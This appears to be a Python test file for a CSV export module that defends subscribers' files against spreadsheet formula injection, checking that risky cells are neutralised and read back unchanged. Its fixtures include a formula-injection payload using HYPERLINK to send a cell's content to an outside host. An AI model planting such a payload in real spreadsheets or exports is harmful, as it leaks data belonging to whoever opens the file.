"""The cells of subscribers' CSV files: no spreadsheet takes one for a formula, and each is read as it was written."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from credentials.errors import BadFile
from credentials.lines.csv_cells import no_formula, read_cells, write_cells

NUMBER = "0312345678"
A_TEXT = re.compile(r'="(?:[^"]|"")*"')
"""A formula that is nothing but one text."""
TEXT = st.text(st.characters(codec="utf-8", exclude_categories=["C", "Z"]), max_size=30)


def read_again(cell: str) -> str:
    data = write_cells([(NUMBER, no_formula(cell))])
    ((_, (_, read)),) = read_cells(data, most_bytes=10_000, most_rows=1, error=BadFile)
    return read


@pytest.mark.parametrize(
    "cell", ['=1"&HYPERLINK("http://a.b/"&A2,"x")&"', '="a"', '=A"B"', "-1+1", "\uff1d1", "\uff20x", "+81"]
)
def test_what_could_be_a_formula_is_one_text_and_nothing_else(cell: str) -> None:
    assert A_TEXT.fullmatch(no_formula(cell))
    assert read_again(cell) == cell


@given(TEXT, st.sampled_from(["", "=", "+", "-", "@", '="', '=1"&A2&"']))
def test_whatever_a_cell_holds_is_read_again_as_it_was(rest: str, start: str) -> None:
    cell = start + rest
    assert read_again(cell) == cell
    assert A_TEXT.fullmatch(no_formula(cell)) or not no_formula(cell).startswith(("=", "+", "-", "@"))
